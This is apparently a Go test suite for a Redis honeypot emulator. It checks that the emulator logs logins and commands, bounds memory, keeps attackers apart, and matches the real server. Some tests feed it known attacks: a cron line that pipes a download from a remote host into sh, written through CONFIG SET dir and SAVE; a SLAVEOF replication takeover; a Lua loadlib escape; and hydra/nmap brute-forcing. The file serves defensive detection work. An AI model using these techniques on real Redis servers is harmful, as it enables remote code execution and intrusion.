package redis_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/services"
	"github.com/decnet/decnet/services/redis"
	"github.com/decnet/decnet/services/servicetest"
)

func TestConformance(t *testing.T) {
	servicetest.Run(t, servicetest.Case{
		Service: redis.Service{},
		Login: func(t *testing.T, c net.Conn) map[string]string {
			ask(t, c, "AUTH admin hunter2\r\n")
			return map[string]string{"username": "admin", "password": "hunter2", "outcome": "failure"}
		},
		Truncated: []byte(bulks("SET", "key", "value")),
		Bait: func(t *testing.T, c net.Conn) string {
			return ask(t, c, "KEYS *\r\n")
		},
	})
}

// ask sends one request and returns one reply, with what belongs to it.
func ask(t testing.TB, c net.Conn, request string) string {
	t.Helper()
	if _, err := c.Write([]byte(request)); err != nil {
		t.Fatal(err)
	}
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	// One byte at a time: nothing may be left in a buffer that is thrown away.
	r := bufio.NewReaderSize(oneByte{c}, 16)
	return readReply(t, r)
}

type oneByte struct{ net.Conn }

func (o oneByte) Read(p []byte) (int, error) { return o.Conn.Read(p[:1]) }

func readReply(t testing.TB, r *bufio.Reader) string {
	t.Helper()
	line, err := r.ReadString('\n')
	if err != nil {
		t.Fatalf("reply %q: %v", line, err)
	}
	var n int
	_, _ = fmt.Sscanf(line[1:], "%d", &n)
	var b strings.Builder
	b.WriteString(line)
	switch line[0] {
	case '$', '=':
		for range n + 2 {
			if n < 0 {
				break
			}
			c, err := r.ReadByte()
			if err != nil {
				t.Fatal(err)
			}
			b.WriteByte(c)
		}
	case '*', '~', '>':
		for range n {
			b.WriteString(readReply(t, r))
		}
	case '%':
		for range 2 * n {
			b.WriteString(readReply(t, r))
		}
	}
	return b.String()
}

func want(t *testing.T, c net.Conn, request, reply string) {
	t.Helper()
	if got := ask(t, c, request+"\r\n"); got != reply {
		t.Errorf("%s: got %q, want %q", request, got, reply)
	}
}

func TestCommandEventsHoldWhatWasTyped(t *testing.T) {
	d, _ := start(t, nil)
	c := d.Dial(t, port)
	want(t, c, `SET "a b" "line\n\"q\"\x00\xff"`, "+OK\r\n")
	e := d.Wait(t, "command", map[string]string{"cmd": "SET"})
	if got, want := e.Value("command"), `SET "a b" "line\n\"q\"\x00\xff"`; got != want {
		t.Errorf("command %q, want %q", got, want)
	}
	var args []string
	if err := json.Unmarshal([]byte(e.Value("args")), &args); err != nil || len(args) != 2 || args[0] != "a b" {
		t.Errorf("args %q: %v", e.Value("args"), err)
	}
}

func TestW20_PasswordsAreRecorded(t *testing.T) {
	d, _ := start(t, services.Config{"password": "s3cret"})
	c := d.Dial(t, port)
	want(t, c, `AUTH "wr]o\"ng\n"`, "-WRONGPASS invalid username-password pair or user is disabled.\r\n")
	d.Wait(t, "auth_attempt", map[string]string{"username": "default", "password": "wr]o\"ng\n", "outcome": "failure", "method": "AUTH"})
	want(t, c, "AUTH app s3cret", "-WRONGPASS invalid username-password pair or user is disabled.\r\n")
	d.Wait(t, "auth_attempt", map[string]string{"username": "app", "password": "s3cret", "outcome": "failure"})
	ask(t, c, "HELLO 3 AUTH default s3cret SETNAME bot\r\n")
	d.Wait(t, "auth_attempt", map[string]string{"username": "default", "password": "s3cret", "outcome": "success", "method": "HELLO"})
	d.Wait(t, "session", map[string]string{"client_name": "bot", "protocol": "3"})
}

func TestW22_TheDeclaredPortIsServed(t *testing.T) {
	d, _ := start(t, nil)
	for p := range d.Addrs {
		want(t, d.Dial(t, p), "PING", "+PONG\r\n")
	}
	if len(d.Addrs) != len((redis.Service{}).Info().Ports) {
		t.Errorf("%d ports declared, %d served", len((redis.Service{}).Info().Ports), len(d.Addrs))
	}
}

func TestW44_DeckiesDiffer(t *testing.T) {
	one := servicetest.Start(t, redis.Service{}, nil, 1, services.Env{})
	two := servicetest.Start(t, redis.Service{}, nil, 2, services.Env{})
	again := servicetest.Start(t, redis.Service{}, nil, 1, services.Env{})
	look := func(d *servicetest.Decky) string { return ask(t, d.Dial(t, port), "KEYS *\r\n") }
	a, b := look(one), look(two)
	if strings.Count(a, "$") != 10 || strings.Count(b, "$") != 10 {
		t.Errorf("not ten keys: %q and %q", a, b)
	}
	if a == b {
		t.Error("two deckies have the same keys")
	}
	if c := look(again); a != c {
		t.Errorf("one decky changed its keys: %q, then %q", a, c)
	}
	for _, line := range strings.Split(a, "\r\n") {
		if strings.Contains(line, ":user:") && strings.Contains(b, line) {
			t.Errorf("both deckies have %s", line)
		}
	}
}

func TestW49_MemoryIsBounded(t *testing.T) {
	d := servicetest.Start(t, redis.Service{}, nil, 1, services.Env{Limits: services.Limits{SessionSize: 64 << 20}})
	c := d.Dial(t, port)
	big := strings.Repeat("x", 500<<10)
	refused := false
	for i := range 8 {
		if got := ask(t, c, bulks("SET", fmt.Sprint("k", i), big)); strings.HasPrefix(got, "-OOM") {
			refused = true
		}
	}
	if !refused {
		t.Error("4 MB of values were taken")
	}
	// What costs little to ask for must not cost much to answer.
	for _, request := range []string{"SETRANGE z 400000000 x", "SETBIT z 4000000000 1"} {
		if got := ask(t, c, request+"\r\n"); !strings.HasPrefix(got, "-OOM") {
			t.Errorf("%s: %q", request, got)
		}
	}
	words := make([]string, 0, 100001)
	words = append(words, "MGET")
	for range 100000 {
		words = append(words, "k1")
	}
	_, _ = c.Write([]byte(bulks(words...)))
	n, _ := bytes.NewBuffer(nil).ReadFrom(c) // the server hangs up
	if n > 12<<20 {
		t.Errorf("one request was answered with %d bytes", n)
	}
	want(t, d.Dial(t, port), "PING", "+PONG\r\n")
}

func TestHugeClaimsCostNothing(t *testing.T) {
	d, _ := start(t, nil)
	for range 50 {
		c := d.Dial(t, port)
		_, _ = c.Write([]byte("*1000000\r\n$536870912\r\nabc"))
	}
	want(t, d.Dial(t, port), "PING", "+PONG\r\n")
}

func TestAttackersDoNotSeeEachOther(t *testing.T) {
	d, addr := start(t, nil)
	one := d.Dial(t, port)
	want(t, one, "SET mine 1", "+OK\r\n")
	want(t, one, "FLUSHALL", "+OK\r\n")
	want(t, one, "DBSIZE", ":0\r\n")
	want(t, d.Dial(t, port), "DBSIZE", ":0\r\n") // the same attacker comes back
	other, err := net.Dial("tcp", addr)          // from 127.0.0.1
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	want(t, other, "DBSIZE", ":10\r\n")
}

func TestFileWritingAttack(t *testing.T) {
	d, _ := start(t, services.Config{"protected_configs": "true"})
	c := d.Dial(t, port)
	cron := "\n\n*/2 * * * * curl -fsSL http://198.51.100.7/i.sh | sh\n\n"
	if got := ask(t, c, bulks("SET", "backup1", cron)); got != "+OK\r\n" {
		t.Fatal(got)
	}
	e := d.Wait(t, "file_captured", map[string]string{"orig_path": "db0/backup1", "reason": "cron"})
	if e.Value("size") != fmt.Sprint(len(cron)) {
		t.Error("size", e.Value("size"))
	}
	d.Wait(t, "download_attempt", map[string]string{"url": "http://198.51.100.7/i.sh"})
	want(t, c, "CONFIG SET dir /var/spool/cron/", "+OK\r\n")
	want(t, c, "CONFIG SET dbfilename root", "+OK\r\n")
	want(t, c, "SAVE", "+OK\r\n")
	d.Wait(t, "config_write", map[string]string{"setting": "dir", "value": "/var/spool/cron/"})
	d.Wait(t, "file_captured", map[string]string{"orig_path": "/var/spool/cron/root", "reason": "save"})
}

func TestSuspiciousValuesAreCaptured(t *testing.T) {
	d, _ := start(t, nil)
	c := d.Dial(t, port)
	for reason, val := range map[string]string{
		"ssh_key": "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB x@y\n\n", "php": "<?php echo 1;", "elf": "\x7fELF\x02\x01\x01", "pe": "MZ\x90\x00\x03\x00\x00\x00",
		"script": "#!/bin/sh\nid\n", "size": strings.Repeat("z", 5000),
	} {
		if got := ask(t, c, bulks("SET", "k-"+reason, val)); got != "+OK\r\n" {
			t.Fatal(reason, got)
		}
		d.Wait(t, "file_captured", map[string]string{"orig_path": "db0/k-" + reason, "reason": reason})
	}
}

func TestReplicationAttack(t *testing.T) {
	d, _ := start(t, nil)
	c := d.Dial(t, port)
	want(t, c, "SLAVEOF 198.51.100.9 21000", "+OK\r\n")
	d.Wait(t, "replication_request", map[string]string{"host": "198.51.100.9", "port": "21000"})
	info := ask(t, c, "INFO replication\r\n")
	for _, line := range []string{"role:slave\r\n", "master_host:198.51.100.9\r\n", "master_port:21000\r\n", "master_link_status:down\r\n"} {
		if !strings.Contains(info, line) {
			t.Errorf("INFO lacks %q: %q", line, info)
		}
	}
	want(t, c, "SET a 1", "-READONLY You can't write against a read only replica.\r\n")
	want(t, c, "SLAVEOF 198.51.100.9 21000", "+OK Already connected to specified master\r\n")
	want(t, c, "SLAVEOF NO ONE", "+OK\r\n")
	want(t, c, "SET a 1", "+OK\r\n")
}

func TestScriptsAreRecorded(t *testing.T) {
	d, _ := start(t, nil)
	c := d.Dial(t, port)
	script := `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1`
	if got := ask(t, c, bulks("EVAL", script, "0")); !strings.HasPrefix(got, "-ERR user_script:1: Script attempted to access nonexistent global variable 'package'") {
		t.Error(got)
	}
	d.Wait(t, "script", map[string]string{"script": script})
}

func TestPubSubBetweenConnections(t *testing.T) {
	d, _ := start(t, nil)
	sub, pub := d.Dial(t, port), d.Dial(t, port)
	want(t, sub, "SUBSCRIBE news", "*3\r\n$9\r\nsubscribe\r\n$4\r\nnews\r\n:1\r\n")
	want(t, pub, "PUBLISH news hello", ":1\r\n")
	if got, want := readReply(t, bufio.NewReader(sub)), "*3\r\n$7\r\nmessage\r\n$4\r\nnews\r\n$5\r\nhello\r\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	mon := d.Dial(t, port)
	want(t, mon, "MONITOR", "+OK\r\n")
	want(t, pub, "GET a", "$-1\r\n")
	if got := readReply(t, bufio.NewReader(mon)); !regexp.MustCompile(`^\+\d+\.\d{6} \[0 127\.0\.0\.77:\d+\] "GET" "a"\r\n$`).MatchString(got) {
		t.Errorf("monitor shows %q", got)
	}
}

func TestBlockingPopWakesUp(t *testing.T) {
	d, _ := start(t, nil)
	waiter, pusher := d.Dial(t, port), d.Dial(t, port)
	if _, err := waiter.Write([]byte("BLPOP jobs 0\r\n")); err != nil {
		t.Fatal(err)
	}
	d.Wait(t, "command", map[string]string{"cmd": "BLPOP"})
	want(t, pusher, "RPUSH jobs one", ":1\r\n")
	if got, want := readReply(t, bufio.NewReader(waiter)), "*2\r\n$4\r\njobs\r\n$3\r\none\r\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestAcceptKey(t *testing.T) {
	any, _ := start(t, services.Config{"accept": "any"})
	c := any.Dial(t, port)
	want(t, c, "PING", "-NOAUTH Authentication required.\r\n")
	want(t, c, "AUTH whatever", "+OK\r\n")
	want(t, c, "PING", "+PONG\r\n")
	nobody, _ := start(t, services.Config{"accept": "nobody", "password": "x"})
	c = nobody.Dial(t, port)
	want(t, c, "AUTH x", "-WRONGPASS invalid username-password pair or user is disabled.\r\n")
}

func TestInfoAgreesWithThePersona(t *testing.T) {
	d, _ := start(t, services.Config{"version": "7.0.11", "os_string": "Linux 5.15.0 x86_64"})
	info := ask(t, d.Dial(t, port), "INFO\r\n")
	for _, line := range []string{"redis_version:7.0.11\r\n", "os:Linux 5.15.0 x86_64\r\n", "tcp_port:6379\r\n", "db0:keys=10,"} {
		if !strings.Contains(info, line) {
			t.Errorf("INFO lacks %q", line)
		}
	}
	if _, err := (redis.Service{}).New(services.Env{Decky: "d"}, services.Config{"version": "seven"}); err == nil {
		t.Error("a version that is none was taken")
	}
}

// TestInfoHasTheFieldsOfTheRealServer compares the names and their order.
func TestInfoHasTheFieldsOfTheRealServer(t *testing.T) {
	twin := realServer(t)
	_, ours := start(t, nil)
	names := func(addr string) string {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		var list []string
		for _, line := range strings.Split(ask(t, c, "INFO\r\n"), "\r\n")[1:] {
			name, _, _ := strings.Cut(line, ":")
			if name != "db0" && !strings.HasPrefix(name, "errorstat") {
				list = append(list, name)
			}
		}
		return strings.Join(list, "\n")
	}
	if want, got := names(twin), names(ours); want != got {
		t.Errorf("real:\n%s\nours:\n%s", want, got)
	}
}

func TestCommandTableIsTheRealOne(t *testing.T) {
	twin := realServer(t)
	_, ours := start(t, nil)
	table := func(addr, name string) string {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		return ask(t, c, "COMMAND INFO "+name+"\r\n")
	}
	for _, name := range []string{"get", "set", "mset", "eval", "zadd", "xread", "ping", "subscribe", "exec", "blpop", "georadius", "bitop", "lmpop", "sort", "migrate", "xreadgroup"} {
		if want, got := table(twin, name), table(ours, name); want != got {
			t.Errorf("%s: real %q\nours %q", name, want, got)
		}
	}
	// The order of subcommands differs from one start of the real server to the next.
	letters := func(s string) string {
		b := []byte(s)
		slices.Sort(b)
		return string(b)
	}
	for _, name := range []string{"acl", "config", "client", "command", "xgroup"} {
		if want, got := table(twin, name), table(ours, name); letters(want) != letters(got) {
			t.Errorf("%s: real %q\nours %q", name, want, got)
		}
	}
}

// client runs a client program of the system against the honeypot.
func client(t *testing.T, input, name string, args ...string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err != nil {
		t.Skipf("%s is not installed", name)
	}
	cmd := exec.CommandContext(t.Context(), path, args...)
	cmd.Stdin = strings.NewReader(input)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Logf("%s: %v", name, err)
	}
	return string(out)
}

func TestRedisCLI(t *testing.T) {
	d, addr := start(t, nil)
	_, p, _ := net.SplitHostPort(addr)
	out := client(t, "set greeting hello\nget greeting\nconfig get databases\nhset h a 1\nhello 3\nhgetall h\n", "redis-cli", "-p", p)
	for _, part := range []string{"OK\n", "hello\n", "databases\n16\n", "proto 3\n", "a 1\n"} {
		if !strings.Contains(out, part) {
			t.Errorf("redis-cli does not show %q:\n%s", part, out)
		}
	}
	d.Wait(t, "command", map[string]string{"command": "set greeting hello"})
	if out := client(t, "", "redis-cli", "-p", p, "--scan"); strings.Count(out, "\n") != 12 {
		t.Errorf("--scan: %q", out)
	}
	if out := client(t, "", "redis-cli", "-p", p, "--rdb", t.TempDir()+"/dump.rdb"); !strings.Contains(out, "Transfer finished with success") {
		t.Errorf("--rdb: %q", out)
	}
}

// TestSnapshotIsReadable lets the checker of the product read what a replica is sent.
func TestSnapshotIsReadable(t *testing.T) {
	_, addr := start(t, nil)
	_, p, _ := net.SplitHostPort(addr)
	client(t, "sadd s 1 2\nsadd t a b\nzadd z 1.5 a\nrpush l a 1 70000\nset big "+strings.Repeat("x", 3000)+"\nset ttl 1 ex 1000\n", "redis-cli", "-p", p)
	file := t.TempDir() + "/dump.rdb"
	client(t, "", "redis-cli", "-p", p, "--rdb", file)
	if out := client(t, "", "redis-check-rdb", file); !strings.Contains(out, "RDB looks OK") || !strings.Contains(out, "16 keys read") {
		t.Errorf("redis-check-rdb: %s", out)
	}
}

func TestScanners(t *testing.T) {
	d, addr := start(t, services.Config{"password": "letmein"})
	_, p, _ := net.SplitHostPort(addr)
	users := t.TempDir() + "/passwords"
	writeFile(t, users, "123456\nletmein\nqwerty\n")
	t.Run("hydra", func(t *testing.T) {
		out := client(t, "", "hydra", "-I", "-P", users, "-s", p, "redis://127.0.0.1")
		if !strings.Contains(out, "password: letmein") {
			t.Errorf("hydra: %s", out)
		}
		d.Wait(t, "auth_attempt", map[string]string{"password": "123456", "outcome": "failure"})
		d.Wait(t, "auth_attempt", map[string]string{"password": "letmein", "outcome": "success"})
	})
	t.Run("nmap brute", func(t *testing.T) {
		out := client(t, "", "nmap", "-Pn", "-p", p, "--script", "+redis-brute", "--script-args", "passdb="+users, "127.0.0.1")
		if !strings.Contains(out, "letmein - Valid credentials") {
			t.Errorf("nmap: %s", out)
		}
	})
	t.Run("nmap info", func(t *testing.T) {
		_, open := start(t, nil)
		_, p, _ := net.SplitHostPort(open)
		out := client(t, "", "nmap", "-Pn", "-sV", "-p", p, "--script", "+redis-info", "127.0.0.1")
		if !strings.Contains(out, "Redis key-value store 7.0.15") || !strings.Contains(out, "Role: master") {
			t.Errorf("nmap: %s", out)
		}
	})
}

// TestRequestsMayArriveInAnyPieces cuts a session at every byte.
func TestRequestsMayArriveInAnyPieces(t *testing.T) {
	d, _ := start(t, nil)
	session := bulks("SET", "k", "12345") + bulks("INCR", "k") + "GET k\r\n"
	for cut := 1; cut < len(session); cut++ {
		c := d.Dial(t, port)
		for _, part := range []string{session[:cut], session[cut:]} {
			if _, err := c.Write([]byte(part)); err != nil {
				t.Fatal(err)
			}
		}
		r := bufio.NewReader(c)
		if got := readReply(t, r) + readReply(t, r) + readReply(t, r); got != "+OK\r\n:12346\r\n$5\r\n12346\r\n" {
			t.Fatalf("cut at %d: %q", cut, got)
		}
		c.Close()
	}
}
